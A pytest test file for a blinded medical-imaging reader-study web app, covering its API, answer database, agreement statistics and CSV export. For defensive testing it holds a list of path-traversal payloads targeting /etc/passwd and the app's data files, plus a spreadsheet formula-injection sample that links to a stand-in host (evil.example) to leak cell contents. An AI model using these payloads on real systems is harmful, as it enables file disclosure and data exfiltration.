"""Reader study: blinded items, the web API (refusals, traversal, resume), the answers DB, export."""

from __future__ import annotations

import csv
import io
import json
import socket
import sqlite3
import warnings

import numpy as np
import pytest
from PIL import Image

from medcloak.errors import MedcloakError
from medcloak.io.images import to_uint
from medcloak.keys import Key
from medcloak.obfuscation.mapping import IntensityMap
from medcloak.readers import cohen_kappa, export_answers, fleiss_kappa, read_reader_items, write_reader_items
from medcloak.readers.db import AnswerDB
from medcloak.synth import generate
from readers_server import live_server

with warnings.catch_warnings():
    warnings.simplefilter("ignore")  # starlette nags about httpx vs httpx2
    from fastapi.testclient import TestClient

from medcloak.readers.app import create_app, reader_order  # noqa: E402

N = 12
CONDITIONS = ("original", "obfuscated")


def make_run(root, *, size: int = 32, seed: int = 0):
    """A tiny run dir: 12 synthetic frames under 'original' and a fake 'obfuscated' (L=32 map)."""
    data = generate(N, size=size, seed=0)
    fake = IntensityMap.from_key(Key(bytes(range(32))), levels=32)(data.frames)
    write_reader_items(root, {"original": data.frames, "obfuscated": fake},
                       artery=data.labels, stenosis=list(data.stenosis), seed=seed)
    return data, fake


@pytest.fixture(scope="module")
def frames_run(tmp_path_factory):
    root = tmp_path_factory.mktemp("run")
    data, fake = make_run(root)
    return root, data, fake


@pytest.fixture()
def run_dir(tmp_path):
    make_run(tmp_path)
    return tmp_path


@pytest.fixture()
def client(run_dir):
    with TestClient(create_app(run_dir)) as c:
        yield c


def reader_token(run_dir, name: str) -> str:
    """Register a reader (as 'medcloak readers add' does) and return their token."""
    return AnswerDB(run_dir / "readers" / "answers.sqlite").add_reader(name)


def answer(client, token, item, visibility=3, artery="LCA", stenosis="no", **extra):
    body = {"token": token, "item": item, "visibility": visibility, "artery": artery, "stenosis": stenosis}
    body.update(extra)
    return client.post("/api/answer", json=body)


def n_answers(run_dir) -> int:
    con = sqlite3.connect(run_dir / "readers" / "answers.sqlite")
    try:
        return con.execute("SELECT COUNT(*) FROM answers").fetchone()[0]
    finally:
        con.close()


# --------------------------------------------------------------------------- items


def test_items_files_ids_and_pixels(frames_run):
    root, data, fake = frames_run
    items = read_reader_items(root)
    assert len(items) == 2 * N
    assert {it.condition for it in items} == set(CONDITIONS)
    ids = [it.id for it in items]
    assert len(set(ids)) == len(ids)
    for it in items:
        assert len(it.id) == 12 and all(c in "0123456789abcdef" for c in it.id)
        assert it.image == f"images/{it.id}.png"
        assert it.artery == data.labels[it.frame] and it.stenosis == bool(data.stenosis[it.frame])
        with Image.open(root / "readers" / it.image) as im:
            assert im.mode == "L" and im.size == (256, 256) and not im.text  # no metadata
            px = np.asarray(im)
        src = data.frames[it.frame] if it.condition == "original" else fake[it.frame]
        np.testing.assert_array_equal(px[::8, ::8], to_uint(src))  # nearest x8, nothing invented
        np.testing.assert_array_equal(px, np.kron(to_uint(src), np.ones((8, 8), np.uint8)))
    assert sorted(p.name for p in (root / "readers" / "images").iterdir()) == sorted(f"{i}.png" for i in ids)
    header = (root / "readers" / "items.csv").read_text().splitlines()[0]
    assert header == "id,image,condition,frame,artery,stenosis"


def test_item_ids_are_deterministic_and_seeded(tmp_path):
    make_run(tmp_path / "a")
    make_run(tmp_path / "b")
    make_run(tmp_path / "c", seed=1)
    a, b, c = (read_reader_items(tmp_path / x) for x in "abc")
    assert [i.id for i in a] == [i.id for i in b]
    assert not {i.id for i in a} & {i.id for i in c}


def test_rewrite_removes_stale_images(tmp_path):
    make_run(tmp_path)
    data = generate(N, size=32, seed=0)
    write_reader_items(tmp_path, {"vae": data.frames[:3]}, artery=data.labels[:3], stenosis=[False] * 3)
    names = sorted(p.stem for p in (tmp_path / "readers" / "images").iterdir())
    assert names == sorted(i.id for i in read_reader_items(tmp_path)) and len(names) == 3


@pytest.mark.parametrize("images, artery, match", [
    ({"a": np.zeros((2, 8, 8), np.float32), "b": np.zeros((3, 8, 8), np.float32)}, ["LCA", "RCA"], "frames"),
    ({"a": np.zeros((2, 8, 8), np.float32)}, ["LCA", "LAD"], "artery"),
    ({"a": np.full((2, 8, 8), 1.5, np.float32)}, ["LCA", "RCA"], r"\[0, 1\]"),
    ({"a,b": np.zeros((2, 8, 8), np.float32)}, ["LCA", "RCA"], "commas"),
    ({"a": np.zeros((2, 8), np.float32)}, ["LCA", "RCA"], "shape"),
])
def test_write_items_refuses_bad_input(tmp_path, images, artery, match):
    with pytest.raises(MedcloakError, match=match):
        write_reader_items(tmp_path, images, artery=artery, stenosis=[False, False])
    assert not (tmp_path / "readers" / "items.csv").exists()


def test_missing_items_is_a_clear_error(tmp_path):
    with pytest.raises(MedcloakError, match="items.csv"):
        create_app(tmp_path)


# --------------------------------------------------------------------------- API: blinding


def test_blinded_responses_never_name_the_condition(client, run_dir):
    items = read_reader_items(run_dir)
    page = client.get("/").text + client.get("/app.js").text + client.get("/app.css").text
    tok = reader_token(run_dir, "Blind")
    bodies = [client.post("/api/start", json={"token": tok}).text]
    state = json.loads(bodies[0])
    for _ in range(5):
        r = answer(client, tok, state["item"]["id"])
        bodies.append(r.text)
        state = r.json()
        assert set(state) == {"reader", "total", "done", "item"} and set(state["item"]) == {"id", "image"}
    bodies.append(client.get("/api/next", headers={"X-Reader-Token": tok}).text)
    for text in bodies + [page]:
        for cond in CONDITIONS:
            assert cond not in text
    for text in bodies:
        assert '"frame"' not in text and "truth" not in text and "condition" not in text
    # the images a reader sees come from both conditions, yet the id says nothing about it
    seen = {it.condition for it in items if it.id in "".join(bodies)}
    assert seen == set(CONDITIONS)


def test_security_headers_and_no_external_resources(client):
    r = client.get("/")
    assert "default-src 'self'" in r.headers["content-security-policy"]
    assert "http://" not in r.text and "https://" not in r.text
    assert "http" not in client.get("/app.js").text.replace("http-equiv", "")


# --------------------------------------------------------------------------- API: refusals


def test_refusals_are_4xx_with_a_clear_json_message(client, run_dir):
    ann = reader_token(run_dir, "Ann")
    first = client.post("/api/start", json={"token": ann}).json()["item"]["id"]
    cases = [
        (answer(client, ann, "0123456789ab"), 404, "unknown item id"),
        (answer(client, ann, "../items.csv"), 404, "unknown item id"),
        (answer(client, "not-a-reader-token", first), 401, "unknown reader token"),
        (answer(client, ann, first, visibility=0), 422, "visibility"),
        (answer(client, ann, first, visibility=6), 422, "visibility"),
        (answer(client, ann, first, visibility="3"), 422, "visibility"),
        (answer(client, ann, first, visibility=True), 422, "visibility"),
        (answer(client, ann, first, visibility=2.5), 422, "visibility"),
        (answer(client, ann, first, artery="LAD"), 422, "artery"),
        (answer(client, ann, first, stenosis="maybe"), 422, "stenosis"),
        (answer(client, ann, first, condition="original"), 422, "condition"),
        (client.post("/api/start", json={"name": "Ann"}), 422, "token"),  # a name alone opens nothing
        (client.post("/api/start", json={"token": "x" * 257}), 422, "token"),
        (client.post("/api/start", json={"token": "   "}), 401, "unknown reader token"),
        (client.get("/api/next", params={"reader": "Ann"}), 401, "unknown reader token"),
    ]
    for r, status, word in cases:
        assert r.status_code == status, (r.request.content, r.text)
        msg = r.json()["error"]
        assert word in msg and "\n" not in msg
    assert n_answers(run_dir) == 0
    assert answer(client, ann, first).status_code == 200
    dup = answer(client, ann, first, visibility=5)  # answers are never overwritten
    assert dup.status_code == 409 and "already answered" in dup.json()["error"]
    assert n_answers(run_dir) == 1
    con = sqlite3.connect(run_dir / "readers" / "answers.sqlite")
    assert con.execute("SELECT visibility FROM answers").fetchall() == [(3,)]  # never overwritten
    assert con.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
    con.close()


def test_database_rejects_bad_rows_itself(run_dir):
    db = AnswerDB(run_dir / "readers" / "answers.sqlite")
    rid, _ = db.reader("Z")
    con = sqlite3.connect(run_dir / "readers" / "answers.sqlite")
    for row in [(rid, "a", 9, "LCA", "no"), (rid, "a", 3, "LAD", "no"), (rid, "a", 3, "LCA", "maybe")]:
        with pytest.raises(sqlite3.IntegrityError):
            con.execute("INSERT INTO answers (reader_id, item, visibility, artery, stenosis, created)"
                        " VALUES (?, ?, ?, ?, ?, 'now')", row)
    con.close()


# --------------------------------------------------------------------------- traversal

TRAVERSALS = [
    "/image/../../etc/passwd",
    "/image/..%2F..%2Fetc%2Fpasswd",
    "/image/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/image/%2e%2e/%2e%2e/etc/passwd",
    "/image/..%252f..%252fetc%252fpasswd",
    "/image/..%5c..%5cetc%5cpasswd",
    "/image/....//....//etc/passwd",
    "/image/../items.csv",
    "/image/..%2Fitems.csv",
    "/image/%2e%2e%2fanswers.sqlite",
    "/image//etc/passwd",
    "/image/%2Fetc%2Fpasswd",
    "/image/images%2F..%2F..%2Fitems.csv",
    "/../../etc/passwd",
    "/%2e%2e/%2e%2e/etc/passwd",
]



def raw_get(port: int, target: str) -> tuple[int, bytes]:
    """Send the request target byte for byte (no client-side normalisation of '..')."""
    with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
        s.sendall(f"GET {target} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n".encode())
        data = b""
        while chunk := s.recv(65536):
            data += chunk
    status = int(data.split(b" ", 2)[1])
    return status, data.split(b"\r\n\r\n", 1)[1]


def test_path_traversal_is_refused_on_the_wire(run_dir):
    secret = run_dir / "outside.txt"
    secret.write_text("TOP-SECRET")
    ok = read_reader_items(run_dir)[0].id
    with live_server(create_app(run_dir)) as port:
        assert raw_get(port, f"/image/{ok}")[0] == 200
        for target in TRAVERSALS + ["/image/..%2F..%2Foutside.txt", "/image/../../outside.txt"]:
            status, body = raw_get(port, target)
            assert 400 <= status < 500, (target, status)
            assert b"root:" not in body and b"TOP-SECRET" not in body and b"id,image" not in body
            assert b"\x89PNG" not in body and b"SQLite" not in body


def test_image_outside_the_images_folder_is_refused(run_dir, tmp_path_factory):
    """A symlinked image that resolves outside readers/images stops the app from starting."""
    it = read_reader_items(run_dir)[0]
    target = tmp_path_factory.mktemp("elsewhere") / "x.png"
    target.write_bytes(b"not an image")
    path = run_dir / "readers" / it.image
    path.unlink()
    path.symlink_to(target)
    with pytest.raises(MedcloakError, match="outside"):
        create_app(run_dir)


# --------------------------------------------------------------------------- order, resume, end


def test_order_is_a_per_reader_permutation_and_resumes_after_restart(run_dir):
    ids = [it.id for it in read_reader_items(run_dir)]
    with TestClient(create_app(run_dir)) as c:
        run = c.app.state.run_id
        bo, cy = reader_token(run_dir, "Bo"), reader_token(run_dir, "Cy")
        first = c.post("/api/start", json={"token": bo}).json()
        order = reader_order("Bo", run, ids)
        assert sorted(order) == sorted(ids) and order != sorted(ids)
        assert reader_order("Cy", run, ids) != order and reader_order("Bo", "other-run", ids) != order
        assert first["item"]["id"] == order[0] and (first["done"], first["total"]) == (0, 2 * N)
        state = first
        for k in range(3):
            assert state["item"]["id"] == order[k]
            state = answer(c, bo, state["item"]["id"], visibility=k + 1).json()
        assert state["done"] == 3 and state["item"]["id"] == order[3]
    # a new server process (same run dir) resumes the same reader at item 4 (by their token)
    with TestClient(create_app(run_dir)) as c:
        again = c.post("/api/start", json={"token": bo}).json()
        assert again["reader"] == "Bo" and again["done"] == 3 and again["item"]["id"] == order[3]
        other = c.post("/api/start", json={"token": cy}).json()
        assert other["done"] == 0 and other["item"]["id"] == reader_order("Cy", run, ids)[0]


def test_answer_is_committed_before_the_response(client, run_dir):
    di = reader_token(run_dir, "Di")
    item = client.post("/api/start", json={"token": di}).json()["item"]["id"]
    assert answer(client, di, item).status_code == 200
    assert n_answers(run_dir) == 1  # a separate connection already sees it


def test_finishing_all_items(client, run_dir):
    ed = reader_token(run_dir, "Ed")
    state = client.post("/api/start", json={"token": ed}).json()
    last = state["item"]["id"]
    while state["item"] is not None:
        last = state["item"]["id"]
        state = answer(client, ed, last).json()
    assert state == {"reader": "Ed", "total": 2 * N, "done": 2 * N, "item": None}
    assert answer(client, ed, last).status_code == 409


# --------------------------------------------------------------------------- statistics

# Fleiss (1971) as worked on Wikipedia's "Fleiss' kappa" page: 10 subjects, 14 raters, 5 categories.
FLEISS_TABLE = [
    [0, 0, 0, 0, 14], [0, 2, 6, 4, 2], [0, 0, 3, 5, 6], [0, 3, 9, 2, 0], [2, 2, 8, 1, 1],
    [7, 7, 0, 0, 0], [3, 2, 6, 3, 0], [2, 5, 3, 2, 2], [6, 5, 2, 1, 0], [0, 2, 2, 3, 7],
]


def test_fleiss_kappa_textbook_values():
    # P_bar = 0.378, P_e = 0.2128 -> kappa = 0.210 (Fleiss 1971 / Wikipedia worked example)
    assert fleiss_kappa(FLEISS_TABLE) == pytest.approx(0.2099, abs=5e-4)
    assert fleiss_kappa([[2, 0], [0, 2]]) == pytest.approx(1.0)
    # hand-checked: P_i = 1, 1, 0 -> P_bar = 2/3; p = (.5, .5) -> P_e = .5; kappa = 1/3
    assert fleiss_kappa([[2, 0], [0, 2], [1, 1]]) == pytest.approx(1 / 3)
    assert fleiss_kappa([[3, 0], [3, 0]]) is None  # one category only: undefined
    with pytest.raises(ValueError):
        fleiss_kappa([[2, 0], [1, 0]])


def test_fleiss_kappa_matches_statsmodels():
    sm = pytest.importorskip("statsmodels.stats.inter_rater", reason="statsmodels not installed")
    assert fleiss_kappa(FLEISS_TABLE) == pytest.approx(sm.fleiss_kappa(np.array(FLEISS_TABLE)), abs=1e-12)


def test_cohen_kappa_matches_textbook_and_sklearn():
    from sklearn.metrics import cohen_kappa_score

    # Wikipedia "Cohen's kappa": 50 proposals, yes/yes 20, yes/no 5, no/yes 10, no/no 15 -> 0.4
    a = ["yes"] * 25 + ["no"] * 25
    b = ["yes"] * 20 + ["no"] * 5 + ["yes"] * 10 + ["no"] * 15
    assert cohen_kappa(a, b, categories=["yes", "no"]) == pytest.approx(0.4)
    rng = np.random.default_rng(3)
    for _ in range(5):
        x = rng.integers(1, 6, 40)
        y = np.clip(x + rng.integers(-1, 2, 40), 1, 5)
        for w in (None, "linear", "quadratic"):
            ours = cohen_kappa(list(x), list(y), categories=[1, 2, 3, 4, 5], weights=w)
            assert ours == pytest.approx(cohen_kappa_score(x, y, labels=[1, 2, 3, 4, 5], weights=w), abs=1e-12)


def test_export_summary_against_known_values(run_dir):
    items = read_reader_items(run_dir)
    db = AnswerDB(run_dir / "readers" / "answers.sqlite")
    r1, _ = db.reader("R1")
    r2, _ = db.reader("R2")
    rng = np.random.default_rng(0)
    want: dict[str, dict[str, list]] = {c: {"v1": [], "v2": [], "a1": [], "a2": [], "ok": []} for c in CONDITIONS}
    for it in items:
        good = it.condition == "original"
        other = "RCA" if it.artery == "LCA" else "LCA"
        v1 = int(rng.integers(3, 6) if good else rng.integers(1, 3))
        v2 = int(np.clip(v1 + rng.integers(-1, 2), 1, 5))
        a1 = it.artery if good else str(rng.choice(["LCA", "RCA", "unsure"]))
        a2 = it.artery if good or rng.random() < 0.5 else other
        db.add_answer(r1, it.id, visibility=v1, artery=a1, stenosis="no")
        db.add_answer(r2, it.id, visibility=v2, artery=a2, stenosis="unsure")
        w = want[it.condition]
        w["v1"].append(v1), w["v2"].append(v2), w["a1"].append(a1), w["a2"].append(a2)
        w["ok"] += [a1 == it.artery, a2 == it.artery]
    s = export_answers(run_dir)
    from scipy import stats
    from sklearn.metrics import cohen_kappa_score

    assert s["n_answers"] == 4 * N and s["n_readers"] == 2 and s["readers"] == ["R1", "R2"]
    by = {c["condition"]: c for c in s["conditions"]}
    assert list(by) == list(CONDITIONS)
    for cond, w in want.items():
        c = by[cond]
        per_item = (np.array(w["v1"]) + np.array(w["v2"])) / 2
        lo, hi = stats.t.interval(0.95, len(per_item) - 1, loc=per_item.mean(), scale=stats.sem(per_item))
        assert c["visibility_mean"] == pytest.approx(per_item.mean())
        assert (c["visibility_ci_low"], c["visibility_ci_high"]) == pytest.approx((lo, hi))
        assert c["artery_accuracy"] == pytest.approx(np.mean(w["ok"]))
        assert c["artery_ci_low"] <= c["artery_accuracy"] <= c["artery_ci_high"]
        assert c["cohen_visibility"] == pytest.approx(cohen_kappa_score(w["v1"], w["v2"], labels=[1, 2, 3, 4, 5]))
        assert c["cohen_visibility_quadratic"] == pytest.approx(
            cohen_kappa_score(w["v1"], w["v2"], labels=[1, 2, 3, 4, 5], weights="quadratic"))
        if len(set(w["a1"] + w["a2"])) > 1:
            assert c["cohen_artery"] == pytest.approx(
                cohen_kappa_score(w["a1"], w["a2"], labels=["LCA", "RCA", "unsure"]))
        assert c["agreement_items"] == N
        assert (c["stenosis_no"], c["stenosis_unsure"], c["stenosis_yes"]) == (N, N, 0)
    assert by["original"]["artery_accuracy"] == 1.0 and by["original"]["cohen_artery"] == pytest.approx(1.0)
    assert by["original"]["visibility_mean"] > by["obfuscated"]["visibility_mean"]
    # with two raters Fleiss' kappa is Scott's pi; check it on the artery table by hand
    a1, a2 = want["obfuscated"]["a1"], want["obfuscated"]["a2"]
    cats = ["LCA", "RCA", "unsure"]
    po = np.mean([x == y for x, y in zip(a1, a2)])
    pe = sum(((a1.count(k) + a2.count(k)) / (2 * N)) ** 2 for k in cats)
    assert by["obfuscated"]["fleiss_artery"] == pytest.approx((po - pe) / (1 - pe))
    # files
    base = run_dir / "readers"
    assert json.loads((base / "summary.json").read_text()) == s
    rows = list(csv.DictReader(io.StringIO((base / "answers.csv").read_text())))
    assert len(rows) == 4 * N and {r["condition"] for r in rows} == set(CONDITIONS)
    assert sum(int(r["artery_correct"]) for r in rows) == sum(sum(w["ok"]) for w in want.values())
    summary_rows = list(csv.DictReader(io.StringIO((base / "summary.csv").read_text())))
    assert [r["condition"] for r in summary_rows] == [*CONDITIONS, "all"]


def test_fleiss_needs_the_items_every_reader_answered(run_dir):
    items = read_reader_items(run_dir)
    db = AnswerDB(run_dir / "readers" / "answers.sqlite")
    ids = [db.reader(n)[0] for n in ("A", "B", "C")]
    for k, it in enumerate(items[:6]):
        for j, rid in enumerate(ids):
            if k == 5 and j == 2:
                continue  # C skipped the sixth item: it leaves the agreement table
            db.add_answer(rid, it.id, visibility=1 + (k + j) % 5, artery="LCA" if j < 2 else "RCA", stenosis="no")
    s = export_answers(run_dir)
    c = s["conditions"][0]
    assert c["agreement_items"] == 5 and c["cohen_artery"] is None  # three readers: no Cohen
    table = [[2, 1, 0]] * 5  # per item: LCA x2, RCA x1
    assert c["fleiss_artery"] == pytest.approx(fleiss_kappa(table))
    assert c["fleiss_artery"] == pytest.approx(-0.5)  # P_bar = 1/3, P_e = 5/9


def test_export_with_no_answers(run_dir):
    s = export_answers(run_dir)
    assert s["n_answers"] == 0 and s["all"]["visibility_mean"] is None and s["all"]["fleiss_artery"] is None
    assert (run_dir / "readers" / "answers.csv").read_text().count("\n") == 1


# --------------------------------------------------------------------------- CLI


def test_cli_export_and_serve_errors(run_dir, tmp_path_factory, capsys):
    import medcloak.cli.readers  # noqa: F401  (registers 'readers' until the lead lists it)
    from medcloak.cli import main

    db = AnswerDB(run_dir / "readers" / "answers.sqlite")
    rid, _ = db.reader("R")
    db.add_answer(rid, read_reader_items(run_dir)[0].id, visibility=4, artery="LCA", stenosis="no")
    assert main(["readers", "export", str(run_dir)]) == 0
    out = capsys.readouterr().out
    assert "1 answers from 1 reader(s) on 24 images" in out and "summary.json" in out
    assert (run_dir / "readers" / "summary.csv").exists()
    empty = tmp_path_factory.mktemp("empty")
    assert main(["readers", "serve", str(empty)]) == 2
    assert "items.csv" in capsys.readouterr().err


# --------------------------------------------------------------------------- tokens, export cells


def test_reader_tokens_protect_sessions_and_names_do_not_leak(run_dir, capsys):
    from medcloak.cli import main

    assert main(["readers", "add", str(run_dir), "Dr A"]) == 0
    token = capsys.readouterr().out.strip()
    assert len(token) >= 20
    assert main(["readers", "add", str(run_dir), "dr a"]) == 2  # names are case-insensitive: no second "Dr A"
    assert "exists already" in capsys.readouterr().err
    with TestClient(create_app(run_dir)) as c:
        # nothing tells an outsider whether a name exists
        known = c.get("/api/next", params={"reader": "Dr A"})
        unknown = c.get("/api/next", params={"reader": "Nobody"})
        assert known.status_code == unknown.status_code == 401 and known.json() == unknown.json()
        assert c.post("/api/start", json={"token": "dr a"}).status_code == 401
        state = c.post("/api/start", json={"token": token}).json()
        assert state["reader"] == "Dr A"
        assert answer(c, token, state["item"]["id"]).status_code == 200
        # continuing another reader's session needs their token, not their name
        r = answer(c, "Dr A", state["item"]["id"])
        assert r.status_code == 401 and n_answers(run_dir) == 1
        assert c.get("/api/next", headers={"X-Reader-Token": token}).json()["done"] == 1
    # a new token replaces the old one
    assert main(["readers", "add", str(run_dir), "Dr A", "--new-token"]) == 0
    fresh = capsys.readouterr().out.strip()
    with TestClient(create_app(run_dir)) as c:
        assert c.post("/api/start", json={"token": token}).status_code == 401
        assert c.post("/api/start", json={"token": fresh}).json()["done"] == 1
    con = sqlite3.connect(run_dir / "readers" / "answers.sqlite")
    stored = [r[0] for r in con.execute("SELECT token_sha256 FROM readers")]
    con.close()
    assert fresh not in "".join(stored) and token not in "".join(stored)  # only hashes are stored


def test_export_escapes_formula_cells(run_dir):
    db = AnswerDB(run_dir / "readers" / "answers.sqlite")
    items = [it.id for it in read_reader_items(run_dir)]
    names = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-3", "@SUM(A1)", "Dr Plain"]
    for k, name in enumerate(names):
        rid, _ = db.reader(name)
        db.add_answer(rid, items[k], visibility=3, artery="LCA", stenosis="no")
    export_answers(run_dir)
    rows = list(csv.DictReader(io.StringIO((run_dir / "readers" / "answers.csv").read_text(encoding="utf-8"))))
    got = sorted(r["reader"] for r in rows)
    assert got == sorted(["'" + n for n in names[:4]] + ["Dr Plain"])
    assert all(not r["reader"].startswith(("=", "+", "-", "@", "\t")) for r in rows)
    assert all(r["visibility"] == "3" for r in rows)  # numbers are left alone
